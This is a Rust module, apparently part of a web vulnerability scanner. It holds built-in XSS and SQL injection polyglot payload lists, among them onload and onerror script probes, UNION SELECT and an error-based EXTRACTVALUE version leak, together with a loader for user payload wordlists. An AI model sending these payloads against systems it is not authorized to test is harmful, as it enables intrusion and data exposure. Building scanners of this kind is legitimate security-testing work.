use std::fs;
use std::io::BufRead;
use std::path::Path;
use log::warn;

pub const POLYGLOT_XSS: &[&str] = &[
    r#"<svg/onload=alert()//>"#,
    r#"<img src=x onerror=alert()>"#,
    r#"</script><script>alert()</script>"#,
    r#"" onmouseover="alert()"#,
    r#"javascript:alert()//"#,
    r#"'-alert()-'"#,
];

pub const POLYGLOT_SQLI: &[&str] = &[
    r#"'"#,
    r#"""#,
    r#"' OR '1'='1'--"#,
    r#"' UNION SELECT NULL,NULL,NULL--"#,
    r#"' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--"#,
    r#"1'/*!50000UNION*//*!50000SELECT*/1,2,3--"#,
    r#"%27%20OR%20%271%27%3D%271"#,
];

/// Payload source for the injection modules: built-in polyglots, optionally
/// followed by a user wordlist.
#[derive(Debug, Clone, Default)]
pub struct PayloadLoader {
    builtin: Vec<String>,
    custom: Vec<String>,
}

impl PayloadLoader {
    pub fn with_builtin(builtin: &[&str]) -> Self {
        Self {
            builtin: builtin.iter().map(|s| s.to_string()).collect(),
            custom: Vec::new(),
        }
    }

    /// Appends payloads from `path`. An empty path is a no-op.
    pub fn extend_from_file(mut self, path: &str) -> Self {
        if path.is_empty() {
            return self;
        }
        self.custom = load_list_from_file(path);
        if self.custom.is_empty() {
            warn!("No payloads loaded from {}", path);
        }
        self
    }

    pub fn payloads(&self) -> impl Iterator<Item = &str> {
        self.builtin.iter().chain(self.custom.iter()).map(String::as_str)
    }

    pub fn payload_count(&self) -> usize {
        self.builtin.len() + self.custom.len()
    }
}

/// Loads lines from a file, skipping empty lines and comments
pub fn load_list_from_file(path: &str) -> Vec<String> {
    let path = Path::new(path);
    let file = match fs::File::open(path) {
        Ok(f) => f,
        Err(e) => {
            warn!("Failed to open payload file {:?}: {}", path, e);
            return Vec::new();
        }
    };
    let reader = std::io::BufReader::new(file);
    reader
        .lines()
        .filter_map(|line| line.ok())
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty() && !s.starts_with('#'))
        .collect()
}
